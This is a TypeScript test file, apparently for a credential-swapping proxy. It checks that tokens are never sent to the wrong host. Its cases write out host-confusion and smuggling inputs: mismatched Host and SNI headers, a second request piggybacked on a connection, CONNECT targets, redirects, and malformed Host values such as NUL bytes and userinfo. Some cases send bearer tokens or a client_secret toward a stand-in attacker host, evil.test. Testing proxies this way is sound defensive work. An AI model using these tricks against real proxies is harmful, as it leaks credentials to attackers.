// Attempts to get a credential, or a request, to another host than the connection's.

// expected: refused, nothing sent

// name: {what}
// judge: refused()
// each: what | dial | sni | host
//   Host of another API on a connection | httpbin.test | httpbin.test | other.test
//   SNI of another API, Host of the first | httpbin.test | other.test   | httpbin.test
//   SNI of a host in no API | httpbin.test | evil.test    | httpbin.test
//   Host of a host in no API | httpbin.test | httpbin.test | evil.test
//   SNI and Host of a host in no API on an API's address | httpbin.test | evil.test    | evil.test
await raw(
  "{dial}",
  "{sni}",
  "GET /anything?t=TRIAL HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n",
);

// name: Host header in fetch
// expected: the URL's host is used, or refused
// judge: unswapped("OTHER_TOKEN", false)
await show(fetch("https://httpbin.test/anything?t=TRIAL", auth("OTHER_TOKEN", { headers: { Host: "other.test" } })));

// name: Host header in node:https
// expected: one host throughout, or refused
// judge: oneHost
import https from "node:https";
await new Promise<void>((done) =>
  https.get("https://httpbin.test/anything?t=TRIAL", {
    headers: { Host: "other.test", Authorization: "Bearer OTHER_TOKEN" },
  }, (r) => {
    let t = "";
    r.on("data", (d) => t += d);
    r.on("end", () => {
      out({ status: r.statusCode, text: t });
      done();
    });
  }).on("error", (e) => {
    why(e);
    done();
  })
);

// name: an address as URL
// judge: refused()
await show(fetch("https://10.99.0.10/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));

// name: the synthetic address as URL
// judge: refused()
await show(fetch("https://198.18.0.1/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));

// name: second request on the connection names another API
// expected: second refused
// judge: never("second")
await raw(
  "httpbin.test",
  "httpbin.test",
  "GET /anything?t=TRIAL HTTP/1.1\r\nHost: httpbin.test\r\n\r\nGET /anything/second?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n",
);

// name: absolute-form target of another API
// judge: refused()
await raw(
  "httpbin.test",
  "httpbin.test",
  "GET https://other.test/anything?t=TRIAL HTTP/1.1\r\nHost: httpbin.test\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n",
);

// name: absolute-form target and Host of another API
// judge: refused()
await raw(
  "httpbin.test",
  "httpbin.test",
  "GET https://other.test/anything?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n",
);

// name: authority-form target (CONNECT)
// judge: refused()
await raw(
  "httpbin.test",
  "httpbin.test",
  "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\nX-T: TRIAL\r\n\r\n",
);

// name: CONNECT on port 80
// judge: refused()
await raw("httpbin.test", null, "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\nX-T: TRIAL\r\n\r\n", {
  port: 80,
});

// name: TLS inside a plain connection to port 80
// judge: refused()
try {
  const c = await Deno.connect({ hostname: "httpbin.test", port: 80 });
  const t = await Deno.startTls(c, { hostname: "httpbin.test" });
  await t.write(
    new TextEncoder().encode(
      "GET /anything?t=TRIAL HTTP/1.1\r\nHost: httpbin.test\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n",
    ),
  );
  const got = await readAll(t, 2000);
  out({ status: Number(got.slice(9, 12)), text: got.slice(0, 200) });
} catch (e) {
  why(e);
}

// name: name of an API to another API's host
// expected: not swapped
// judge: unswapped("OTHER_TOKEN", true)
await show(fetch("https://httpbin.test/anything?t=TRIAL", auth("OTHER_TOKEN")));

// name: name of an API outside the run's APIs
// expected: not swapped
// judge: unswapped("SHARED_A_TOKEN", true)
// apis: shared-b
await show(fetch("https://shared.test/anything?t=TRIAL", auth("SHARED_A_TOKEN")));

// name: host outside the run's APIs
// judge: refused()
// apis: httpbin
await show(fetch("https://other.test/anything?t=TRIAL", auth("OTHER_TOKEN")));

// name: host in no API
// judge: refused()
await show(fetch("https://evil.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));

// name: host of an inactive API
// judge: refused()
await show(fetch("https://off.test/anything?t=TRIAL", auth("OFF_TOKEN")));

// name: name to a host in no API under YOLO
// expected: arrives literally
// judge: literally("HTTPBIN_TOKEN")
// yolo: yes
await show(fetch("https://evil.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));

// name: catalog host outside the run under YOLO
// judge: refused()
// apis: httpbin
// yolo: yes
await show(fetch("https://other.test/anything?t=TRIAL", auth("OTHER_TOKEN")));

// name: inactive API's host under YOLO
// judge: refused()
// yolo: yes
await show(fetch("https://off.test/anything?t=TRIAL", auth("OFF_TOKEN")));

// name: control: the name to its own host
// expected: swapped
// judge: swapped("HTTPBIN_TOKEN")
await show(fetch("https://httpbin.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));

// name: control: the name to its own wildcard host
// expected: swapped
// judge: swapped("WILD_TOKEN")
await show(fetch("https://a.wild.test/anything?t=TRIAL", auth("WILD_TOKEN")));

// name: two labels below a one-label wildcard
// judge: refused()
await show(fetch("https://x.y.wild.test/anything?t=TRIAL", auth("WILD_TOKEN")));

// name: the apex of a wildcard
// judge: refused()
await show(fetch("https://wild.test/anything?t=TRIAL", auth("WILD_TOKEN")));

// name: a wildcard's token to a host with an exact API
// expected: exact beats wildcard
// judge: unswapped("WILD_TOKEN", false)
await show(fetch("https://b.wild.test/anything?t=TRIAL", auth("WILD_TOKEN")));

// name: redirect to another API, followed by fetch
// expected: not swapped there
// judge: unswapped("OTHER_TOKEN", false)
await show(
  fetch(
    "https://httpbin.test/x/hop?t=TRIAL&to=" + encodeURIComponent("https://other.test/anything?t=TRIAL"),
    auth("HTTPBIN_TOKEN"),
  ),
);

// name: redirect to a host in no API, followed by fetch
// expected: second hop refused
// judge: never("anything")
await show(
  fetch(
    "https://httpbin.test/x/hop?t=TRIAL&to=" + encodeURIComponent("https://evil.test/anything?t=TRIAL"),
    auth("HTTPBIN_TOKEN"),
  ),
);

// name: redirect to plain http of the same host
// expected: second hop refused
// judge: never("anything")
await show(
  fetch(
    "https://httpbin.test/x/hop?t=TRIAL&to=" + encodeURIComponent("http://httpbin.test/anything?t=TRIAL"),
    auth("HTTPBIN_TOKEN"),
  ),
);

// name: 307 with a body credential to another API
// expected: not swapped there
// judge: never("other")
await show(
  fetch(
    "https://httpbin.test/x/hop?t=TRIAL&status=307&to=" +
      encodeURIComponent("https://evil.test/anything/other?t=TRIAL"),
    {
      method: "POST",
      headers: { "Content-Type": "application/x-www-form-urlencoded" },
      body: "client_secret=HTTPBIN_BODY",
    },
  ),
);

// name: one host in two APIs: the other's restriction
// expected: refused
// judge: refused("method_restricted")
// apis: shared-b
await show(fetch("https://shared.test/anything?t=TRIAL", auth("SHARED_B_TOKEN", { method: "DELETE" })));

// name: control: the run's own account of a shared host
// expected: swapped
// judge: swapped("SHARED_B_TOKEN")
// apis: shared-b
await show(fetch("https://shared.test/anything?t=TRIAL", auth("SHARED_B_TOKEN")));

// name: plain http to a host with credentials
// judge: refused()
await show(fetch("http://httpbin.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));

// name: control: plain http where the API allows it
// expected: swapped
// judge: swapped("PLAIN_TOKEN")
await show(fetch("http://plain.test/anything?t=TRIAL", auth("PLAIN_TOKEN")));

// name: plain http of one API with another's name
// expected: not swapped
// judge: unswapped("HTTPBIN_TOKEN", false)
await show(fetch("http://plain.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));

// name: plain http host on port 80 with Host of another API
// judge: refused()
await raw(
  "plain.test",
  null,
  "GET /anything?t=TRIAL HTTP/1.1\r\nHost: httpbin.test\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n",
  { port: 80 },
);

// name: Host with {what}
// judge: refused()
// each: what | host
//   NUL                        | httpbin.test\x00.evil.test
//   percent-encoded NUL        | httpbin.test%00
//   another port               | httpbin.test:8443
//   port 0                     | httpbin.test:0
//   port that overflows        | httpbin.test:65979
//   userinfo                   | user@httpbin.test
//   userinfo with another host | httpbin.test@other.test
//   a path                     | httpbin.test/other.test
//   a comma                    | httpbin.test,other.test
//   a space                    | httpbin.test other.test
//   a backslash                | httpbin.test\\other.test
//   a fragment                 | httpbin.test#other.test
//   empty                      |
//   empty labels               | httpbin..test
//   two trailing dots          | httpbin.test..
//   percent letters            | %68ttpbin.test
//   an IPv6 literal            | [::1]
//   an IPv4 literal            | 127.0.0.1
//   an integer address         | 2130706433
//   a hexadecimal address      | 0x7f.1
//   raw UTF-8                  | \xef\xbd\x88ttpbin.test
//   a label of 64 bytes        | a123456789012345678901234567890123456789012345678901234567890123.wild.test
await raw(
  "httpbin.test",
  "httpbin.test",
  "GET /anything?t=TRIAL HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n",
);

// name: Host with a tab
// judge: unswapped("OTHER_TOKEN", false)
await raw(
  "httpbin.test",
  "httpbin.test",
  "GET /anything?t=TRIAL HTTP/1.1\r\nHost: httpbin.test\t\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n",
);

// name: URL with {what}
// expected: normalised once, or refused
// judge: unswapped("OTHER_TOKEN", false)
// each: what | url
//   upper case         | https://HTTPBIN.TEST/anything?t=TRIAL
//   a trailing dot     | https://httpbin.test./anything?t=TRIAL
//   userinfo           | https://other.test@httpbin.test/anything?t=TRIAL
//   the default port   | https://httpbin.test:443/anything?t=TRIAL
//   full-width letters | https://ｈttpbin.test/anything?t=TRIAL
//   an ideographic dot | https://httpbin。test/anything?t=TRIAL
await show((async () => await fetch("{url}", auth("OTHER_TOKEN")))());
